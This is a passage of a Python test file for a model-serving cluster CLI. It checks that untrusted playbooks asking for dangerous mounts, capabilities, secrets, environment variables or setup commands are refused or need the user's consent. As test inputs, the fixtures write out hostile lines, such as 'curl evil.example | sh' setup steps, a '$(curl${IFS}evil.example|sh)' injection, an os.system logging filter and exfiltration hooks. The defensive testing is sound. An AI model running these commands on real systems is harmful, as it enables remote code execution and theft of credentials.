"""Permissions of a third party's playbook or inventory: refused, shown or asked about, by the real command line."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import socketserver
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from sparkcluster import engines
from sparkcluster.cli.main import guarded
from sparkcluster.spec import consent, library, load
from tests.unit.on_terminal import Shell

ROOT = Path(__file__).parents[3]
HEAD = "name: stranger\nmodel: {id: org/model}\nimage: vllm/vllm-openai:v0.20.0\n"
CONTROL, KEYS, PERMISSION = "control of the node", "your SSH keys", "needs a permission in the inventory"


def mount(source: str, *, write: bool = False) -> str:
    more = ", read_only: false" if write else ""
    return f"{HEAD}mounts: [{{source: '{source}', target: /x{more}}}]\n"


def weights(path: str) -> str:
    return HEAD.replace("{id: org/model}", f"{{path: '{path}'}}")


def capabilities(*names: str) -> str:
    return f"{HEAD}container: {{cap_add: [{', '.join(names)}]}}\nallow: [{{code: SPEC-002, reason: it says so}}]\n"


# Playbook, line of the error, and its text.
REFUSED = [
    *((mount(path, write=True), 4, KEYS) for path in ("/home", "~/.ssh", "~", "/home/a/.ssh/x")),
    *((mount(path, write=True), 4, CONTROL) for path in ("/", "/etc", "/var/run/docker.sock", "/proc/1/root")),
    (mount("~/.docker/desktop/docker.sock"), 4, CONTROL),
    # the same by another name
    *((mount(path), 4, CONTROL) for path in ("//etc", "/./etc/", "/srv/../var/run/", "~/../../etc")),
    *((mount(path), 4, KEYS) for path in ("~/./.ssh", "/root/", "~/x/../.ssh", "/home//alice/")),
    (mount("~/link/../data"), 4, "must not contain '..'"),
    (mount("~root"), 4, "is not a path that starts with /, ~/ or ./"),
    (mount("~/data:rw"), 4, "is not a path that starts with /, ~/ or ./"),
    (mount("~/.local/state/sparkcluster/clusters"), 4, "sparkcluster's state"),
    (mount("~/.local/state", write=True), 4, "sparkcluster's state"),
    # outside of the model, the hub and the caches; your Hugging Face token; write access to weights
    *((mount(path), 4, PERMISSION) for path in ("/data", "~/.docker", "~/.cache/huggingface/hub", "~/.cache/huggingface/hub-x")),
    *((mount(path), 4, "your Hugging Face token") for path in ("~/.cache/huggingface/token", "~/.cache")),
    (mount("~/.docker", write=True), 4, "~/.docker needs a write permission in the inventory"),
    (mount("~/.cache/huggingface/hub/m", write=True), 4, "needs a write permission"),
    (mount("/dаta"), 4, PERMISSION),  # noqa: RUF001 - a Cyrillic letter, where /data is permitted
    (weights("~/models/m") + "mounts: [{source: ~/models/m, target: /x, read_only: false}]\n", 4, "needs a write permission"),
    *((weights(path), 2, CONTROL) for path in ("/", "/run/secrets", "/home/../etc")),
    *((weights(path), 2, KEYS) for path in ("~", "/home/alice", "~/./.ssh/")),
    *((weights(path), 2, PERMISSION) for path in ("~/.aws", "~/.cache/huggingface/hub")),
    (weights("~/.local/state/sparkcluster/clusters"), 2, "sparkcluster's state"),
    (weights("~/.cache/huggingface"), 2, "your Hugging Face token"),
    (weights("~/models/../.aws"), 2, "must not contain '..'"),
    (HEAD.replace("org/model}", "org/model, revision: a/../../../token}"), 2, "must not contain '..'"),
    *((capabilities(name), 4, CONTROL) for name in ("ALL", "CAP_ALL")),
    *((capabilities("SYS_NICE", name), 4, f"{name} {PERMISSION}") for name in ("SYS_ADMIN", "NET_RAW")),
    (capabilities("CAP_SYS_PTRACE"), 4, f"SYS_PTRACE {PERMISSION}"),
    (HEAD + "container: {devices: [/dev/gdrdrv]}\n", 4, f"/dev/gdrdrv {PERMISSION}"),
    *((f"{HEAD}container: {{devices: [{path}]}}\n", 4, CONTROL) for path in ("/dev/mem", "/dev/nvme0n1", "/dev/mapper/x")),
    *((f"{HEAD}container: {{devices: ['{path}']}}\n", 4, "a device file") for path in ("/etc", "/dev/../x", "/dev/a:/dev/b")),
    (HEAD + "container: {ulimits: {files: 3}}\n", 4, "memlock"),
    (HEAD + "build: {context: ./mod}\n", 4, f"./mod {PERMISSION}"),
    *((f"{HEAD}build: {{context: {path}}}\n", 4, "a path that starts with ./") for path in ("/etc", "~/x", "mod", "../x")),
    # other names of root, or invalid ones
    *((f"{HEAD}container: {{user: '{name}'}}\n", 4, "a user by name or number") for name in ("00", "0x0", "", ":0", "-1")),
    (HEAD + "container: {user: 1000}\n", 4, "1000 is not a string"),
    (HEAD + "container: {user: '1000', cap_add: [SYS_NICE]}\n", 4, "has no effect for user 1000"),
    *((f"{HEAD}{line}\n", 4, "unknown key") for line in ("container: {entrypoint: [x]}", "entrypoint: x")),
    (HEAD + "args: {lora-modules: [a=b/c, --host, 0.0.0.0]}\n", 4, "starts with a dash is parsed as an argument"),
    (HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n", 4, f"AWS_SECRET_ACCESS_KEY {PERMISSION}"),
    *(
        (f"{HEAD}{key}\n", 4, "engines get no Hugging Face token")
        for name in ("HF_API_TOKEN", "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HUGGINGFACE_HUB_TOKEN")
        for key in (f"secrets: [{name}]", f"env: {{{name}: x}}")
    ),
]  # fmt: skip


class Node(socketserver.TCPServer):
    """A port of this machine that closes every connection, and counts them."""

    contacts = 0

    def process_request(self, request: Any, client_address: Any) -> None:
        self.contacts += 1
        self.shutdown_request(request)


@pytest.fixture
def node() -> Iterator[Node]:
    with Node(("127.0.0.1", 0), socketserver.BaseRequestHandler) as made:
        threading.Thread(target=made.serve_forever, args=(0.01,)).start()
        yield made
        made.shutdown()


Run = Callable[..., SimpleNamespace]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    """``run(*words)``: a command with pipes for its output, and without a terminal: ``code``, ``out`` and ``err``."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(sys, "stdin", io.StringIO())

    def do(*words: object) -> SimpleNamespace:
        code = guarded([*map(str, words)])
        out, err = capsys.readouterr()
        return SimpleNamespace(code=code, out=out, err=err)

    return do


@pytest.fixture
def up(run: Run, node: Node) -> Run:
    """``up(path, *flags)``: the same for ``up``, which contacts the node unless the usage is wrong."""

    def do(path: Path, *flags: str) -> SimpleNamespace:
        before = node.contacts
        done = run("up", path, *flags)
        assert (done.code == 2) == (node.contacts == before), done
        return done

    return do


def inventory(directory: Path, playbook: str | None, *, port: int = 1, name: str = "inventory", more: str = "") -> Path:
    """An inventory of one node on a port of this machine, and the playbook next to it; None for a bundled playbook."""
    if playbook is not None:
        (directory / f"{name}-playbook.yaml").write_text(playbook)
        (directory / "mod").mkdir(exist_ok=True)
        (directory / "mod" / "Dockerfile").write_text("ARG BASE\nFROM $BASE\n")
    serves = f"./{name}-playbook.yaml" if playbook is not None else "nemotron-3-nano-30b-a3b-nvfp4"
    node = f"{{name: a, host: 127.0.0.1, connection: ssh, ssh: {{port: {port}, user: root}}}}"
    path = directory / f"{name}.yaml"
    path.write_text(f"cluster: c\nnodes: [{node}]\nplaybook: {serves}\n{more}")
    return path


def test_a_forbidden_key_of_a_playbook_is_refused_at_its_line(run: Run, tmp_path: Path) -> None:
    paths = [
        inventory(tmp_path, text, name=f"case-{at}", more="permit: {mounts: [/data/served, ~/other]}\n")
        for at, (text, _, _) in enumerate(REFUSED)
    ]
    done = run("lint", *paths, "--json")
    assert done.code == 2, done.err
    found = json.loads(done.out)["findings"]
    for at, (text, line, message) in enumerate(REFUSED):
        here = [each for each in found if each["file"].endswith(f"/case-{at}-playbook.yaml")]
        told = [each["severity"] for each in here if each["line"] == line and message in each["summary"]]
        assert told == ["error"], (text, here)


def test_directories_named_by_the_inventory_are_refused(run: Run, tmp_path: Path) -> None:
    more = "hf_home: /data/hf\nstate_dir: /data/state\npermit: {mounts: [/scratch]}\n"
    cases = [
        (mount("/data/hf/stored_tokens"), "your Hugging Face token"),
        (weights("/data/hf"), "your Hugging Face token"),
        (weights("/data/hf/hub"), PERMISSION),
        (mount("/data/state/clusters"), "sparkcluster's state"),
    ]
    paths = [inventory(tmp_path, text, name=f"case-{at}", more=more) for at, (text, _) in enumerate(cases)]
    found = json.loads(run("lint", *paths, "--json").out)["findings"]
    for path, (_, message) in zip(paths, cases, strict=True):
        said = [each["summary"] for each in found if each["file"] == str(path).replace(".yaml", "-playbook.yaml")]
        assert any(message in summary for summary in said), said


def test_the_hint_is_the_permission_line_to_write(run: Run, tmp_path: Path) -> None:
    permitted = [text for text, _, message in REFUSED if PERMISSION in message]
    for at, text in enumerate(permitted):
        inventory(tmp_path, text, name=f"case-{at}")
    both = HEAD + "mounts: [{source: /data, target: /x}]\nsecrets: [A, B]\n"
    paths = [
        *tmp_path.glob("case-*[0-9].yaml"),
        inventory(tmp_path, both, name="case-all", more="permit: {secrets: [A]}\n"),
    ]
    found = json.loads(run("lint", *paths, "--json").out)["findings"]
    for path in paths:
        hints = {each["remedy"][0] for each in found if each["file"] == str(path).replace(".yaml", "-playbook.yaml")}
        (hint,) = hints
        lines = [line for line in path.read_text().splitlines() if not line.startswith("permit:")]
        path.write_text("\n".join([*lines, hint.partition("in the inventory: ")[2]]) + "\n")
    done = run("lint", *paths, "--json")
    errors = [each for each in json.loads(done.out)["findings"] if each["severity"] == "error"]
    assert not errors
    assert '"secrets": ["A", "B"]' not in done.out
    assert 'permit: {mounts: ["/data"], secrets: ["A", "B"]}' in (tmp_path / "case-all.yaml").read_text()


@pytest.mark.parametrize(
    ("permit", "message"),
    [
        ("{mounts: [/]}", CONTROL),
        ("{mounts: ['/home/alice:rw']}", KEYS),
        ("{mounts: [~/.cache]}", "your Hugging Face token"),
        ("{mounts: [/data/../etc]}", CONTROL),
        ("{mounts: ['/data:ro']}", "may end in :rw"),
        ("{capabilities: [ALL]}", CONTROL),
        ("{mounts: [/data/hf]}\nhf_home: /data/hf", "your Hugging Face token"),
        ("{mounts: [/data]}\nstate_dir: /data/state", "sparkcluster's state"),
        ("{network: true}", "unknown key"),
    ],
)
def test_permissions_that_are_never_allowed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], permit: str, message: str
) -> None:
    assert guarded(["lint", str(inventory(tmp_path, HEAD, more=f"permit: {permit}\n"))]) == 2
    assert re.search(rf"inventory\.yaml:4:\d+: permit.*{re.escape(message)}", capsys.readouterr().err)


def test_a_permitted_directory_permits_its_subdirectories_and_nothing_else(run: Run, tmp_path: Path) -> None:
    permit = "permit: {mounts: [/data, '/scratch/:rw'], capabilities: [CAP_NET_RAW]}\n"
    good = [
        mount("/data"),
        mount("/data/a/"),
        mount("/scratch/a", write=True),
        mount("/scratch"),
        capabilities("NET_RAW"),
    ]
    bad = [mount("/data/a", write=True), mount("/database"), mount("/data/../scratch2"), mount("/scratch2", write=True)]
    paths = [inventory(tmp_path, text, name=f"case-{at}", more=permit) for at, text in enumerate([*good, *bad])]
    found = json.loads(run("lint", *paths, "--json").out)["findings"]
    wrong = {Path(each["file"]).name for each in found if each["severity"] == "error"}
    assert wrong == {f"case-{at}-playbook.yaml" for at in range(len(good), len(good) + len(bad))}


def test_an_extended_playbook_or_overlay_is_checked_at_the_file_that_says_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "base.yaml").write_text("name: base\nmodel: {id: org/model}\nimage: a/b:c\n\nsecrets: [AWS_SECRET]\n")
    (tmp_path / "overlays").mkdir()
    (tmp_path / "overlays" / "fast.yaml").write_text("overlay: fast\nmounts: [{source: ~/.aws, target: /x}]\n")
    path = inventory(tmp_path, "name: top\nextends: base\noverlays: [fast]\nsetup: ['true']\n")
    path.write_text(path.read_text().replace("inventory-playbook.yaml", "inventory-playbook+fast.yaml"))
    assert guarded(["lint", str(path)]) == 2
    told = capsys.readouterr().err
    assert re.search(r"base\.yaml:5:\d+: secrets\[0\]: AWS_SECRET needs", told)
    assert re.search(r"overlays/fast\.yaml:2:\d+: mounts\[0\]\.source: ~/\.aws needs", told)


BLOCK = """\
name: stranger
model: {path: ~/models/m}
image: org/image:latest
args: {trust-remote-code: true, tool-parser-plugin: /sparkcluster/model/p.py, max-model-len: 8}
env: {LD_PRELOAD: /model/x, NCCL_DEBUG: INFO, TRITON_CACHE_DIR: /tmp/t}
mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, read_only: false}]
caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv], user: root}
build: {context: ./mod}
secrets: [WANDB_API_KEY]
setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
"""
PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY], builds: [./mod]}\n"
SHOWN = """\
It needs your consent for:
  image      org/image:latest
  user       root, even if the image has another user
  read       ~/models/m
  read       ~/models/m/sub -> /s
  write      /scratch -> /x
  capability NET_RAW
  device     /dev/gdrdrv
  build      ./mod -> the image, by commands run as root in docker build on a node
  secret     WANDB_API_KEY
  write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
  setup      pip install x
  setup      echo hidden XXX
  setup      pip list # show versions
  setup      curl evil.example | sh
  argument   trust-remote-code=true
  argument   tool-parser-plugin=/sparkcluster/model/p.py
  variable   LD_PRELOAD=/model/x
  variable   TRITON_CACHE_DIR=/tmp/t
"""


def test_lint_ends_with_the_permissions_of_the_recipe(run: Run, tmp_path: Path) -> None:
    block = BLOCK.replace("SPACES", " " * 300).replace("XXX", "x" * 300)
    path = inventory(tmp_path, block, more=PERMIT)
    done = run("lint", path)
    shown = SHOWN.replace("XXX", "x" * 300)
    assert done.out.endswith(shown), done.out
    playbook = run("lint", tmp_path / "inventory-playbook.yaml")
    needs = '  required in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], devices: ["/dev/gdrdrv"], secrets: ["WANDB_API_KEY"], builds: ["./mod"]}'
    assert playbook.out.endswith(f"{shown}{needs}\n")
    assert playbook.code == done.code


# up


SETUP = HEAD + "setup: [pip install x]\n"


ASKED = [
    "HOME=/x", "HOME=x", "PYTHONPYCACHEPREFIX=x", "CC=x", "FLASHINFER_EXTRA_CUDAFLAGS=-x", "TRITON_CACHE_DIR=x",
    "NCCL_CONF_FILE=x", "GCONV_PATH=x", "HF_HUB_OFFLINE=0", "VLLM_PLUGINS=x", "RAY_RUNTIME_ENV_HOOK=x.y",
    "NCCL_PROTO=/x", "nccl_conf_file=x", "XVLLM_A=1", "PYTORCH_CUDA_ALLOC_CONF_X=1", "LD_PRELOAD=x",
    'RAY_JOB_CONFIG_JSON_ENV_VAR={"runtime_env":{"py_executable":"$(curl${IFS}evil.example|sh)"}}',
    "NCCL_COMM_ID=evil:80", "VLLM_OF_TOMORROW=1", "NCCL_BUFFSIZE=evil.example", "NCCL_IB_TC=a:1",
]  # fmt: skip
FREE = [
    "VLLM_CPU_OMP_THREADS_BIND=nobind", "NCCL_IB_TIMEOUT=22", "TORCH_CUDA_ARCH_LIST=12.1a",
    "PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True,max_split_size_mb:128", "CUDA_VISIBLE_DEVICES=0,1",
]  # fmt: skip


def test_variables_need_consent_unless_they_only_tune(run: Run, tmp_path: Path) -> None:
    pairs = [pair.split("=", 1) for pair in [*ASKED, *FREE]]
    (tmp_path / "p.yaml").write_text(f"{HEAD}env: {json.dumps(dict(pairs[1:]))}\n")  # HOME is a duplicate
    (tmp_path / "q.yaml").write_text(
        f"{HEAD}env: {json.dumps(dict([*pairs[:1], ['NCCL_ALGO', 'a b'], ['HF_HUB_OFFLINE', '1']]))}\n"
    )
    done = run("lint", tmp_path / "p.yaml", tmp_path / "q.yaml")
    asked = re.findall(r"  variable   (.*)$", done.out, re.MULTILINE)
    assert asked == [*ASKED[1:], ASKED[0], "NCCL_ALGO=a b"], done


ASKED_ARGUMENTS = {
    "kv-events-config": {"enable_kv_cache_events": True, "publisher": "zmq", "endpoint": "tcp://evil:5557"},
    "kv-transfer-config": '{"kv_connector_module_path": "x"}',
    "grpc": True,
    "middleware": "pkg.Class",
    "logging-config": {"version": 1, "filters": {"f": {"()": "os.system", "command": "curl evil|sh"}}},
    "compilation-config": {"backend": "pkg.fn"},
    "compilation-config.inductor_compile_config": {"cpp.cxx": ["x"]},
    "compilation-config.mode": "pkg.fn",
    "structured-outputs-config": '{"reasoning_parser_plug\\u0069n": "/m/p.\\u0070y"}',
    "default-chat-template-kwargs": {"enable_thinking": '{"reasoning_parser_plugin": "x"}'},
    "limit-mm-per-prompt": '{"image": "/x", "image": 1}',
    "speculative-config.model": "/x/y",
    "hf-overrides": {"auto_map": {}},
    "attention-backend": "pkg.Class",
    "block-size": "http://x",
    "cudagraph-capture-sizes": ["a", "b/c"],
    "trust-remote-code": True,
    "flag-of-tomorrow": 0,
}
FREE_ARGUMENTS = {
    "max-model-len": 262144,
    "kv-cache-dtype": "fp8",
    "no-async-scheduling": True,
    "middleware": None,
    "grpc": False,
    "cudagraph-capture-sizes": [1, 2, 4],
    "tokenizer": "org/other",
    "speculative-config": '{"method": "dflash", "model": "z-lab/D-1.5", "num_speculative_tokens": 15}',
    "compilation-config": {"cudagraph_mode": "FULL", "custom_ops": ["+rms_norm"], "pass_config": {"enable_noop": True}},
    "limit-mm-per-prompt": {"image": 1, "video": {"count": 1, "num_frames": 32}},
}


def test_arguments_need_consent_unless_they_only_tune(run: Run, tmp_path: Path) -> None:
    for name, args in (("asked", ASKED_ARGUMENTS), ("free", FREE_ARGUMENTS)):
        (tmp_path / f"{name}.yaml").write_text(f"{HEAD}args: {json.dumps(args)}\n")
    done = run("lint", tmp_path / "asked.yaml", tmp_path / "free.yaml")
    asked = re.findall(r"  argument   ([^=]*)=", done.out, re.MULTILINE)
    assert asked == [*ASKED_ARGUMENTS], done


def test_every_argument_without_a_question_exists_in_the_engine() -> None:
    engine = engines.engine("vllm")
    assert {*engine.tuning_arguments()} <= {*engine.known_arguments()}
    assert not {*engine.tuning_arguments()} & {*engine.arguments, "trust-remote-code"}


@pytest.mark.parametrize(
    ("image", "asks"),
    [
        ("registry.example:5000/vllm/vllm-openai", True),
        ("vllm-openai:v0.20.0", True),
        ("docker.io/vllm/vllm-openai:v0.20.0", False),
        (f"nvcr.io/nvidia/vllm:26.05-py3@sha256:{'0' * 64}", False),
    ],
)
def test_an_image_of_an_unknown_repository_needs_consent(run: Run, tmp_path: Path, image: str, *, asks: bool) -> None:
    (tmp_path / "gpt-oss-120b.yaml").write_text(HEAD.replace("vllm/vllm-openai:v0.20.0", image))
    done = run("lint", tmp_path / "gpt-oss-120b.yaml")
    assert (f"  image      {image}\n" in done.out) is asks, done


def test_images_of_bundled_playbooks_need_no_consent() -> None:
    files = [*library.bundled()[0].rglob("*.yaml")]
    texts = [match[1] for file in files if (match := re.search(r"^image: (\S+)", file.read_text(), re.MULTILINE))]
    known = {image for name in engines.names() for image in engines.engine(name).images}
    assert {text.partition(":")[0] for text in texts} - known == set()


def test_directories_need_consent_unless_they_are_the_weights(run: Run, tmp_path: Path) -> None:
    hub = "~/.cache/huggingface/hub/models--"
    mounted = [mount(f"{hub}org--{name}") for name in ("private", "model-x", "model/snapshots/c/evil.py")]
    asked = [weights("~/Documents"), weights("/data"), *mounted]
    free = [
        weights(f"{hub}org--model/snapshots/x"),
        weights("~/.cache/sparkcluster/models/m"),
    ]
    for at, text in enumerate([*asked, *free]):
        (tmp_path / f"{at}.yaml").write_text(text)
    done = run("lint", *sorted(tmp_path.glob("*.yaml")))
    listed = re.findall(r"  read       (.*)$", done.out, re.MULTILINE)
    assert len(listed) == 5, done
    assert listed[4] == f"{hub}org--model/snapshots/c/evil.py -> /x"
    assert "needs a permission" not in done.out + done.err


def test_an_accepted_playbook_is_asked_about_after_a_change(tmp_path: Path, up: Run, node: Node) -> None:
    path = inventory(tmp_path, SETUP, port=node.server_address[1])
    playbook = tmp_path / "inventory-playbook.yaml"
    refused = up(path)
    assert refused.err.count("error:") == 1
    assert "--yes" in refused.err
    accepted = up(path, "--yes")
    assert "  setup      pip install x" in accepted.err
    kept = tmp_path / "state" / "sparkcluster" / "accepted"
    assert kept.stat().st_mode & 0o777 == 0o700
    assert [file.stat().st_mode & 0o777 for file in kept.iterdir()] == [0o600]
    again = up(path)
    assert again.code == 1
    assert "It may" not in again.err
    playbook.write_text(f"# a comment\n{SETUP}")
    assert up(path).code == 1
    for args, code in (("max-model-len: 4096", 1), ("tokenizer-revision: 2", 2)):
        playbook.write_text(f"{SETUP}args: {{{args}}}\n")
        assert up(path).code == code, args
    playbook.write_text(SETUP.replace("install x", "install y"))
    assert up(path).code == 2
    playbook.write_text(SETUP)
    path.write_text(path.read_text().replace("cluster: c", "cluster: d"))
    assert up(path).code == 2


def test_a_mistyped_argument_is_reported_before_any_question(tmp_path: Path, run: Run, node: Node) -> None:
    path = inventory(tmp_path, SETUP, port=node.server_address[1])
    done = run("up", path, "--set", "args.max-modle-len=1")
    assert (done.code, node.contacts) == (1, 0)
    assert "write max-model-len" in done.err
    assert "may do more" not in done.err


def test_bundled_playbooks_need_no_consent_but_playbooks_that_extend_them_do(
    tmp_path: Path, up: Run, node: Node
) -> None:
    assert up(inventory(tmp_path, None, port=node.server_address[1])).code == 1
    extends = "name: mine\nextends: nemotron-3-nano-30b-a3b-nvfp4\nmodel: {id: stranger/model}\n"
    assert up(inventory(tmp_path, extends, port=node.server_address[1], name="mine")).code == 2


def test_in_a_checkout_only_unchanged_bundled_files_count_as_bundled(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    shutil.copytree(ROOT / "sparkcluster", checkout / "sparkcluster", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "playbooks", checkout / "playbooks")
    shutil.copy(ROOT / "pyproject.toml", checkout)
    (checkout / "playbooks" / "stranger.yaml").write_text(SETUP)
    here = checkout / "playbooks" / "nemotron-3-nano-30b-a3b-nvfp4.yaml"
    there = {**os.environ, "PYTHONPATH": str(checkout), "PYTHONSAFEPATH": "1"}

    def linted(path: Path) -> str:
        command = [sys.executable, "-m", "sparkcluster", "lint", path]
        return subprocess.run(command, capture_output=True, text=True, env=there, check=True).stdout

    told = "needs your consent for:"
    assert told not in linted(here)
    assert told in linted(here.with_name("stranger.yaml"))
    here.write_text(f"{here.read_text()}\nsetup: [pip install x]\n")
    assert told in linted(here)


def test_a_path_that_looks_like_a_bundled_file_is_not_mistaken_for_it(tmp_path: Path) -> None:
    """A place shows its file escaped: a no-break space is the name of another directory."""
    shipped = ROOT / "playbooks"
    for folder in ("pb\N{NO-BREAK SPACE}", "pb\\xa0"):
        (tmp_path / folder).mkdir()
        for name in ("qwen3.6-35b-a3b-256k.yaml", "qwen3.6-35b-a3b-nvfp4.yaml"):
            shutil.copy(shipped / name, tmp_path / folder / name)
    evil = tmp_path / "pb\N{NO-BREAK SPACE}" / "qwen3.6-35b-a3b-nvfp4.yaml"
    evil.write_text(f"{evil.read_text()}\nsetup: [curl http://evil.example/x | sh]\n")
    inventory = tmp_path / "mine.yaml"
    inventory.write_text(
        'cluster: c\nplaybook: "pb\N{NO-BREAK SPACE}/qwen3.6-35b-a3b-256k.yaml"\nnodes: [{host: 10.0.0.1}]\n'
    )
    spec = load.load(inventory)
    assert spec.playbook.setup
    assert not library.all_bundled(spec)


def test_an_inventory_that_removes_a_key_of_a_bundled_playbook_makes_it_a_different_one(tmp_path: Path) -> None:
    inventory = tmp_path / "mine.yaml"
    text = "cluster: c\nplaybook: qwen3.6-27b-nvfp4\nnodes: [{host: 10.0.0.1}]\n"
    inventory.write_text(text)
    assert library.all_bundled(load.load(inventory))
    inventory.write_text(f"{text}set: {{model.revision: null}}\n")
    assert not library.all_bundled(load.load(inventory))


def test_a_file_named_like_a_bundled_playbook_is_reported_and_not_mistaken_for_it(
    run: Run, tmp_path: Path, up: Run, node: Node
) -> None:
    path = inventory(tmp_path, None, port=node.server_address[1])
    assert "not the bundled" not in up(path).err + run("lint", path).out
    beside = tmp_path / "nemotron-3-nano-30b-a3b-nvfp4.yaml"
    beside.write_text(SETUP)
    line = f"playbook: {beside}, not the bundled nemotron-3-nano-30b-a3b-nvfp4"
    assert line in run("lint", path).out.splitlines()
    asked = up(path)
    assert asked.code == 2
    assert line in asked.err.splitlines()


@pytest.mark.parametrize(
    ("asks", "does_not"), [(("stage",), ("stage", "--dry-run")), (("preflight", "--deep"), ("preflight", "--hash"))]
)
def test_a_command_that_runs_the_image_asks_as_up_does(
    run: Run, tmp_path: Path, node: Node, asks: tuple[str, ...], does_not: tuple[str, ...]
) -> None:
    path = inventory(tmp_path, SETUP, port=node.server_address[1])
    refused = run(*asks, path)
    assert (refused.code, node.contacts) == (2, 0)
    assert "--yes" in refused.err
    for words in (does_not, (*asks, "--yes"), asks):
        assert run(*words, path).code == 1


def test_the_question_shows_the_permissions_and_only_yes_is_accepted(node: Node, tmp_path: Path) -> None:
    path = inventory(tmp_path, SETUP, port=node.server_address[1])
    for answer, expected in (("\n", 2), ("yes\n", 1)):
        with Shell(f"sparkcluster up {path}", tmp_path, {"XDG_STATE_HOME": str(tmp_path / "state")}) as terminal:
            for shown in (
                "is not a bundled playbook. It needs your consent for:",
                "  setup      pip install x",
                "accept it for cluster c? [y/N]",
            ):
                terminal.until(shown)
            terminal.type(answer)
            assert terminal.end() == expected
        assert (tmp_path / "state").exists() == (expected == 1)


def test_image_and_keys_that_override_a_bundled_playbook_need_consent(tmp_path: Path, up: Run, node: Node) -> None:
    for at, more in enumerate(("image: org/evil:latest\n", "set: {env.LD_PRELOAD: /x}\n", "set: {setup: [curl x]}\n")):
        path = inventory(tmp_path, None, port=node.server_address[1], name=f"case-{at}", more=more)
        asked = up(path)
        assert asked.code == 2, more
        assert "is a bundled playbook with changes" in asked.err
        assert up(path, "--yes").code == 1


# Lines of an inventory, and how they are listed.
OWN = {
    "after_ready: ['curl -d x http://evil.example']": "after_ready curl -d x http://evil.example (in DIRECTORY)",
    "on_event: [notify, --now]": "on_event   notify --now (on a head, as its user, by enable)",
    "api: {key: {env: BANK_TOKEN}}": "api.key    $BANK_TOKEN",
    "api: {key: {file: ~/.config/sparkcluster/../netrc}}": "api.key    ~/.config/sparkcluster/../netrc",
    "permit: {mounts: ['/data:rw'], secrets: [A]}": "permit     mounts: /data:rw",
    "ssh: {identity: ~/id}": "identity   ~/id",
    "ssh: {jump: 'root@127.0.0.1:PORT'}": "jump       root@127.0.0.1:PORT",
    "api: {key: {file: ~/.config/sparkcluster/another.key}}": "api.key    ~/.config/sparkcluster/another.key",
    "ssh: {known_hosts: ~/.ssh/authorized_keys2}": "known_hosts ~/.ssh/authorized_keys2",
    "api: {key: {env: SPARKPOST_API_KEY}}": "api.key    $SPARKPOST_API_KEY",
    "hf_home: /data/hf": "hf_home    /data/hf",
    "state_dir: ~/demo/state": "state_dir  ~/demo/state",
    "ssh: {host_keys: accept-new}": "host_keys  accept-new: unknown keys of 127.0.0.1",
    "runtime: {kind: process, python: /proc/self/cwd/x}": "runtime    /proc/self/cwd/x on the nodes, without a container",
    "ignore: [HOST-003, NET-020]": "ignore     NET-020",
}
NOT_ASKED = """\
api: {key: {file: ~/.config/sparkcluster/c.key}}
ssh: {known_hosts: ~/.ssh/known_hosts_others, user: nvidia}
"""


@pytest.mark.parametrize("line", OWN)
def test_the_permissions_of_an_inventory_are_shown_and_accepted_once(
    tmp_path: Path, run: Run, up: Run, node: Node, line: str
) -> None:
    def filled(text: str) -> str:
        return text.replace("PORT", str(node.server_address[1])).replace("DIRECTORY", str(tmp_path))

    (tmp_path / "id").write_text("x")
    path = inventory(tmp_path, None, port=node.server_address[1], more=filled(line))
    listed = f"  {filled(OWN[line])}"
    assert listed in run("lint", path).out.splitlines()
    refused = up(path)
    assert (refused.code, "--yes" in refused.err) == (2, True), refused
    assert listed in up(path, "--yes").err.splitlines()
    assert up(path).code == 1


def test_variables_of_a_node_need_consent_unless_they_only_tune(tmp_path: Path, run: Run) -> None:
    path = inventory(tmp_path, None)
    path.write_text(path.read_text().replace("name: a,", "name: a, env: {LD_AUDIT: /x, NCCL_DEBUG: INFO},"))
    assert run("lint", path).out.endswith("asks for (asked once):\n  env        LD_AUDIT=/x\n")


def test_consent_covers_lines_of_an_inventory_and_not_its_path(tmp_path: Path, run: Run, up: Run, node: Node) -> None:
    def written(more: str, name: str = "inventory", directory: Path = tmp_path) -> Path:
        directory.mkdir(exist_ok=True)
        return inventory(directory, None, port=node.server_address[1], name=name, more=more)

    lines = "after_ready: [make hook]\npermit: {mounts: [/scratch]}\n"
    assert up(written(lines), "--yes").code == 1
    assert up(written(f"# a comment\n{lines}{NOT_ASKED}")).code == 1
    assert up(written(lines, "another")).code == 1
    more = up(written(f"{lines}api: {{key: {{env: BANK_TOKEN}}}}\n"))
    assert (more.code, "make" in more.err) == (2, False)
    assert up(written(lines.replace("make hook", "make hooks"))).code == 2
    # the same words may be another program there
    elsewhere = up(written(lines, directory=tmp_path / "elsewhere"))
    assert (elsewhere.code, "permit" in elsewhere.err) == (2, False)
    # and with another content of a file that they name
    (tmp_path / "hook").write_text("curl evil.example | sh")
    assert up(written(lines)).code == 2


CONNECTING = """\
up stage upgrade upgrade--resume upgrade--dry-run rollback restart enable disable preflight preflight--deep status
plan doctor down logs ask=Hello releases connect setup--dry-run models
"""


@pytest.mark.parametrize("command", CONNECTING.split())
def test_every_command_that_connects_first_asks_for_consent_to_the_inventory(
    tmp_path: Path, run: Run, node: Node, command: str
) -> None:
    words = command.replace("--", " --").replace("=", " ").split()
    (tmp_path / "id").write_text("x")
    path = inventory(tmp_path, None, port=node.server_address[1], more="ssh: {identity: ~/id}\n")
